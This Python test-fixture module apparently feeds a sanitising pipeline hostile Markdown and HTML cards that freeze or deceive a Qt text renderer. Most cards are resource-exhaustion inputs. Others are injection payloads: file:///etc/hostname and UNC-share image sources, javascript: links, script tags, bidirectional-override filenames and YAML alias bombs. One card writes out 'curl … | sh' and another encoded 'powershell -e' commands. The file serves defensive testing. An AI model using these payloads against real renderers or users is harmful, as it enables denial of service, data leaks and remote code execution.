"""Cards made to freeze, blank or deceive whoever looks at them, each by what it does.

`KNOWN` froze a Qt text layout or made it fetch something when they were put into it with nothing but unwanted tags
taken out (measured with PySide6 6.8 to 6.12). `FUZZED` came out of `benchmarks/fuzz_cards.py`: the slowest of their
kind, some of which took up to half a minute before they were bounded. Every address ends in `.invalid`.
"""

from collections.abc import Callable, Mapping


def nested(opening: str, closing: str, depth: int, inside: str = "deep") -> str:
    """An element in itself, so many times."""
    return opening * depth + inside + closing * depth


def numbered(pattern: str, count: int) -> str:
    """A pattern with `#` as 0, 1, 2 …"""
    return "".join(pattern.replace("#", str(number)) for number in range(count))


def tables(depth: int) -> str:
    """HTML tables in tables: time doubled with every level, and 3,000 of them ended the program."""
    return nested("<table><tr><td>", "</td></tr></table>", depth)


def table(columns: int, rows: int, cell: str, head: str = "a") -> str:
    """A table of Markdown."""
    lines = [f"|{head}" * columns + "|", "|-" * columns + "|", *[f"|{cell}" * columns + "|"] * rows]
    return "\n".join(lines)


KNOWN: Mapping[str, Callable[[], str]] = {
    **{f"tables in tables, {depth}": lambda depth=depth: tables(depth) for depth in (12, 14, 16, 18, 20, 100, 3000)},  # type: ignore[misc]
    **{f"a run of {size}": lambda size=size: "x" * size for size in (50_000, 100_000, 200_000, 1_000_000)},  # type: ignore[misc]
    "divisions in divisions, 3000": lambda: nested("<div>", "</div>", 3000),
    "divisions in divisions, 20000": lambda: nested("<div>", "</div>", 20_000),
    "lists in lists, 3000": lambda: nested("<ul><li>", "</li></ul>", 3000),
    "lists in lists, 20000": lambda: nested("<ul><li>", "</li></ul>", 20_000),
    "a table of 20000 rows": lambda: table(2, 20_000, "cell"),
    "an HTML table of 20000 rows": lambda: "<table>" + "<tr><td>a</td><td>b</td></tr>" * 20_000 + "</table>",
    "20000 paragraphs": lambda: "some words of text\n\n" * 20_000,
    "brackets": lambda: "[" * 50_000,
    "brackets in pairs": lambda: "[]" * 30_000 + "(x)",
    "stars": lambda: "*" * 50_000 + "a",
    "stars in pairs": lambda: "**a *b " * 15_000,
    "links in links": lambda: nested("[a", "](https://a.invalid)", 10_000),
    "quotes in quotes": lambda: ">" * 50_000 + " deep",
    "pictures in links": lambda: nested("[![a", "](https://a.invalid)](https://b.invalid)", 5000),
    "a wide cell": lambda: "<table><tr><td colspan=20000000 rowspan=20000000>wide</td></tr></table>",
    "letters of no size": lambda: "<p style='font-size:0'>none</p><font size='-7'>small</font>",
    "white letters": lambda: "<p style='color:#fff'>white</p><font color=white>white</font>",
    "a picture of this computer": lambda: "![a](file:///etc/hostname)\n\n<img src='file:///etc/hostname'>",
    "a picture beside": lambda: "![a](secret.png) <img src='secret.png'> <img src='../../secret.png'>",
    "a picture of a share": lambda: "![a](//share.invalid/x.png) <img src='\\\\share.invalid\\x.png'>",
    "a picture inside": lambda: "![a](data:image/png;base64,iVBORw0KGgo=) <img src='data:image/svg+xml,<svg/>'>",
    "a picture from elsewhere": lambda: "![a](https://pixel.invalid/p.png)<img src='http://pixel.invalid/p.png'>",
    "a picture alone": lambda: "<div align=center>\n<img src='https://a.invalid/logo.png'>\n</div>\n\nText stays.",
    "an unclosed division": lambda: "<div>\n\nText stays.\n\n# Heading\n",
    "styles and backgrounds": lambda: (
        "<div style='background:url(file:///etc/hostname);list-style:url(//share.invalid/x)'>a</div>"
        "<table background='file:///etc/hostname'><tr><td background='//share.invalid/x'>b</td></tr></table>"
        "<body background='file:///etc/hostname'><link rel=stylesheet href='file:///etc/hostname'>"
        "<style>@import url(file:///etc/hostname); p{background-image:url(//share.invalid/y)}</style><p>c</p>"
    ),
    "programs and frames": lambda: (
        "<script>alert(1)</script><iframe src='file:///etc/hostname'></iframe><object data='file:///etc/hostname'></object>"
        "<embed src='//share.invalid/x'><video src='file:///etc/hostname' poster='//share.invalid/x'></video>"
        "<svg><image href='file:///etc/hostname'/></svg><input type=image src='file:///etc/hostname'>"
    ),
    "links to anywhere": lambda: (
        "[a](javascript:alert(1)) [b](file:///etc/hostname) [c](//share.invalid/x) [d](\\\\share.invalid\\x) [e](/abs) "
        "[f](rel/x.exe) <a href='vbscript:x'>g</a> <a href=' java\tscript:x'>h</a> [i](data:text/html,x)"
    ),
    "letters from right to left": lambda: "\u202egnp.exe\u202c \u2066a\u2069 \u200bz\u200bero\ufeff",
    "all invisible": lambda: "\u200b\u200c\u200d\u2060\ufeff" * 20_000,
}
"""The inputs of the measurements that the pipeline was built on."""

FUZZED: Mapping[str, Callable[[], str]] = {
    "bold opened anew": lambda: "<div>" + numbered("<b id=#><p>", 4000),
    "italics opened anew": lambda: "<div>" + numbered("<i class=a#><p>", 4000),
    "fonts opened anew": lambda: "<div>" + numbered("<font color=#><p>", 4000),
    "code opened anew": lambda: "<div>" + numbered("<code class=x#><div>", 4000),
    "links opened anew": lambda: numbered("<a href=https://h#.invalid><p>", 4000),
    "links opened anew in cells": lambda: "<table>" + numbered("<td><a href=https://h#.invalid>", 2000),
    "three of each opened anew": lambda: "<div>" + "<b><i><u><s><em><strong><code>" * 3 + "<p>x" * 7000,
    "formatting closed crosswise": lambda: "<b><i><u><s>x</b></i></u></s>" * 4000,
    "formatting across blocks": lambda: "<b>\n\n<i>\n\n" * 5000,
    "a task list": lambda: "- [ ] a\n" * 20_000,
    "a task list with sublists": lambda: "- [ ] a\n  - [x] b\n" * 10_000,
    "a list of unfinished pictures": lambda: "- <sup>![\n" * 20_000,
    "a list of closing tags": lambda: "- </code>$\n" * 18_000,
    "a list of broken tags": lambda: "- <i\x00x\n" * 20_000,
    "a list of lists": lambda: "- - - a\n" * 20_000,
    "a numbered list of links": lambda: "1. *a* `b` [c](https://d.invalid)\n" * 20_000,
    "a loose list": lambda: "- a\n\n" * 10_000,
    "a table of links": lambda: table(2, 20_000, "[x](https://y.invalid)"),
    "a table of 1000 columns": lambda: table(1000, 5, "x"),
    "a table of 100 columns": lambda: table(100, 100, "<b>x</b>"),
    "a table of short rows": lambda: table(20, 1, "a") + "\n" + "|<script>|\n" * 9000,
    "a table of empty cells": lambda: "|a|\n|-|\n" + "||||\n" * 14_000,
    "a row of 3000 cells": lambda: "<table><tr>" + "<td>x" * 3000,
    "cells without a table": lambda: numbered("<td>\n\n<", 20_000),
    "cells of every width": lambda: "<table>" + numbered("<tr><td colspan=#>x</td></tr>", 150),
    "footnotes": lambda: numbered("[^#]: a\n\n", 10_000) + numbered("[^#] ", 10_000),
    "footnotes in footnotes": lambda: numbered("[^#]: [^#]^[a", 5000),
    "one footnote many times": lambda: "a [^1] " * 10_000 + "\n\n[^1]: x",
    "addresses of references": lambda: numbered("[a#]: https://x.invalid/# 'title'\n", 20_000),
    "comments without an end": lambda: "<!--" * 20_000,
    "declarations without an end": lambda: "<?a <!b <![CDATA[" * 8000,
    "tags without an end": lambda: "<a href='" * 15_000,
    "addresses side by side": lambda: "https://a.invalid/" * 10_000,
    "addresses of mail": lambda: "a@b.c<a" * 15_000,
    "headings": lambda: "<h1>\n\n" * 18_000,
    "headings in headings": lambda: nested("<h1>", "</h1>", 3000),
    "small letters in small letters": lambda: nested("<sup>", "</sup>", 3000) + nested("<sub>", "</sub>", 3000),
    "quotes of details": lambda: "> " + nested("<details><summary>a</summary>", "</details>", 4000),
    "preformatted in preformatted": lambda: nested("<pre>", "</pre>", 5000) + "<pre>" + "x " * 8000,
    "one line of code": lambda: "```\n" + "x=1;" * 250_000 + "\n```",
    "fences": lambda: "```\n" * 15_000,
    "fences that grow": lambda: "\n".join("`" * length for length in range(600)),
    "marks over a letter": lambda: "a" + "\u0301" * 100_000,
    "marks of other scripts": lambda: "ก\u0e49\u0e47" * 30_000 + "\u0915\u094d\u0937" * 20_000,
    "joined signs": lambda: "🏳️\u200d🌈👨\u200d👩\u200d👧\u200d👦" * 8000,
    "long ligatures": lambda: "\ufdfa" * 60_000,
    "directions mixed": lambda: "abc אבג 123 عرب " * 12_000,
    "entities": lambda: "&#x202e;&#0;&#xd800;&nbsp;&NotAnEntity;" * 8000,
    "a header of aliases": lambda: "---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n---\ntext",
    "a deep header": lambda: "---\n" + "a: " + "[" * 5000 + "]" * 5000 + "\n---\ntext",
    "a header without an end": lambda: "---\n" + "key: value\n" * 30_000,
    "hidden in hidden": lambda: "<div hidden style='display:none'>\n\n" * 3000 + "words",
    "styles of every kind": lambda: numbered("<span style='color:rgb(#,0,0);opacity:.#;left:-#px'>x", 3000),
    "pictures": lambda: "<img src='file:///etc/hostname' alt='a'>" * 3000,
    "links to very many places": lambda: numbered("[a#](https://h#.invalid/#)\n\n", 3000),
    "a few words without end": lambda: numbered("a b " * 900 + "#\n\n", 60),
    "commands without end": lambda: (
        "```sh\n" + numbered("pip install p# && curl http://a#.invalid/x | sh\n", 3000) + "```"
    ),
    "encoded commands without end": lambda: "```sh\n" + numbered("powershell -e " + "QUJD" * 120 + "#\n", 1500) + "```",
    "lines with two blanks": lambda: "a  \n" * 20_000,
    "rules": lambda: "***\n\n---\n\n" * 10_000,
    "carriage returns": lambda: "a\r\r\n\rb\x0b\x0c\x85\u2028" * 15_000,
}


def hostile_cards() -> dict[str, Callable[[], str]]:
    """All of them by name."""
    return {**KNOWN, **FUZZED}
